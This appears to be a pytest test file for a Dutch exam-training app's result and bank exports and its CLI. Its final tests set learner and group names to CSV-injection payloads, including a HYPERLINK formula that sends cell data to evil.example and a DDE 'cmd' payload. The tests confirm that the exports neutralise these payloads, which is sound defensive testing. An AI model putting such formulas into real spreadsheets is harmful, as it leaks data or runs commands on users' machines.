"""Results as CSV for Dutch Excel and as XLSX; a bank exported and validated again; the CLI."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from examtrainer.cli import EXIT_OK, main
from examtrainer.errors import NotFound
from examtrainer.services.export import SUMMARY_HEADER, export_bank, export_results
from examtrainer.store import models as m

from .conftest import Classroom


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, or Excel shows mojibake"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def test_csv_for_dutch_excel(classroom: Classroom, tmp_path: Path) -> None:
    path = export_results(
        classroom.store, tmp_path / "maandag.csv", group_id=classroom.groups["Maandag"]
    )
    rows = read_csv(path)
    assert tuple(rows[0]) == SUMMARY_HEADER
    assert len(rows) == 1 + 2 * 3  # Amina and Bilal, three skills each
    by_key = {(r[1], r[3]): dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    amina = by_key[("Amina", "lezen")]
    assert amina["Niveau"] == "A2"
    assert amina["Vragen gemaakt"] == "5" and amina["Goed"] == "4"
    assert amina["Percentage goed"] == "80,0"  # decimal comma
    assert amina["Minuten geoefend"] == "3,0"
    assert amina["Groep"] == "Maandag"
    assert "," in amina["Kans geslaagd A2 (%)"]
    assert amina["Laatste activiteit"].startswith("05-03-2025")
    assert by_key[("Amina", "luisteren")]["Niveau"] == ""


def test_csv_of_one_learner_with_accents(classroom: Classroom, tmp_path: Path) -> None:
    store = classroom.store
    store.learners.update(classroom.learners["Eva"], name="Éva Çelik")
    path = export_results(store, tmp_path / "eva.csv", "csv", learner_id=classroom.learners["Eva"])
    rows = read_csv(path)
    assert {r[1] for r in rows[1:]} == {"Éva Çelik"}


def test_xlsx_has_summary_and_answers(classroom: Classroom, tmp_path: Path) -> None:
    path = export_results(classroom.store, tmp_path / "alle.xlsx")
    workbook = load_workbook(path)
    assert workbook.sheetnames == ["Overzicht", "Antwoorden"]
    overview = list(workbook["Overzicht"].iter_rows(values_only=True))
    assert overview[0] == SUMMARY_HEADER
    assert len(overview) == 1 + 4 * 3  # Amina, Bilal, Dewi, Eva
    amina = next(r for r in overview if r[1] == "Amina" and r[3] == "lezen")
    assert amina[7] == 5 and amina[10] == pytest.approx(80.0)  # real numbers
    answers = list(workbook["Antwoorden"].iter_rows(values_only=True))
    assert len(answers) == 1 + 5 + 2 + 1  # Chen is archived
    assert {r[8] for r in answers[1:]} == {"ja", "nee"}


def test_unknown_group_or_format(classroom: Classroom, tmp_path: Path) -> None:
    with pytest.raises(NotFound):
        export_results(classroom.store, tmp_path / "x.csv", group_id=999)
    with pytest.raises(ValueError):
        export_results(classroom.store, tmp_path / "x.ods")


def test_bank_export_round_trip(
    classroom: Classroom, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = export_bank(classroom.store, "test.tiny", tmp_path / "tiny-copy")
    archive = export_bank(classroom.store, "test.tiny", tmp_path / "tiny.zip")
    for target in (folder, archive):
        assert main(["bank", "validate", "--no-decode", str(target)]) == EXIT_OK
        assert "5 items" in capsys.readouterr().out


def test_cli_exports(
    classroom: Classroom, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "klas.xlsx"
    code = main(
        ["results", "export", "--group", str(classroom.groups["Dinsdag"]), "--output", str(out)]
    )
    assert code == EXIT_OK, capsys.readouterr().err
    rows = list(load_workbook(out)["Overzicht"].iter_rows(values_only=True))
    assert {r[1] for r in rows[1:]} == {"Dewi"}
    csv_out = tmp_path / "amina.txt"
    args = ["results", "export", "--learner", str(classroom.learners["Amina"]), "--format", "csv"]
    assert main([*args, "--output", str(csv_out)]) == EXIT_OK
    assert read_csv(csv_out)[1][1] == "Amina"
    assert main(["results", "export", "--all", "--output", str(tmp_path / "x.pdf")]) == 2
    assert main(["bank", "export", "test.tiny", str(tmp_path / "via-cli.zip")]) == EXIT_OK
    assert main(["bank", "validate", "--no-decode", str(tmp_path / "via-cli.zip")]) == EXIT_OK
    assert main(["bank", "export", "nope", str(tmp_path / "nope.zip")]) == 1


def test_set_pin_prints_a_site_line(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from examtrainer.services.teacher import verify_pin

    answers = iter(["246810", "246810"])
    monkeypatch.setattr("getpass.getpass", lambda prompt="": next(answers))
    assert main(["teacher", "set-pin"]) == EXIT_OK
    line = capsys.readouterr().out.strip().splitlines()[-1]
    assert line.startswith('teacher_pin_hash = "scrypt$')
    assert verify_pin("246810", line.split('"')[1])


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTab",
    "\rCR",
]


def _hostile_classroom(classroom: Classroom) -> list[str]:
    """Amina, Bilal, Dewi, Eva and both groups get names a spreadsheet would run."""
    store = classroom.store
    for name, hostile in zip(["Amina", "Bilal", "Dewi", "Eva"], HOSTILE_NAMES, strict=False):
        store.learners.update(classroom.learners[name], name=hostile)
    with store.transaction() as db:
        db.execute(
            update(m.GroupRow)
            .where(m.GroupRow.id == classroom.groups["Maandag"])
            .values(name=HOSTILE_NAMES[4])
        )
        db.execute(
            update(m.GroupRow)
            .where(m.GroupRow.id == classroom.groups["Dinsdag"])
            .values(name=HOSTILE_NAMES[5])
        )
    return HOSTILE_NAMES


def test_csv_neutralises_formulas_in_names(classroom: Classroom, tmp_path: Path) -> None:
    """OWASP CSV injection: every cell that begins with = + - @ tab or CR gets a leading '."""
    hostile = _hostile_classroom(classroom)
    rows = read_csv(export_results(classroom.store, tmp_path / "alle.csv"))
    names = {r[1] for r in rows[1:]}
    groups = {r[2] for r in rows[1:]} - {""}
    assert names == {"'" + name for name in hostile[:4]}
    assert groups == {"'" + name for name in hostile[4:]}
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_xlsx_stores_formula_like_names_as_text(classroom: Classroom, tmp_path: Path) -> None:
    """No cell of the workbook is a formula; the names read back exactly as typed."""
    hostile = _hostile_classroom(classroom)
    path = export_results(classroom.store, tmp_path / "alle.xlsx")
    with zipfile.ZipFile(path) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(member) and b"<f " not in archive.read(member)
    workbook = load_workbook(path)
    overview = workbook["Overzicht"]
    names = {row[1].value for row in overview.iter_rows(min_row=2)}
    assert names == set(hostile[:4])
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str) and cell.value.startswith(tuple("=+-@\t\r")):
                    assert cell.quotePrefix, cell.coordinate
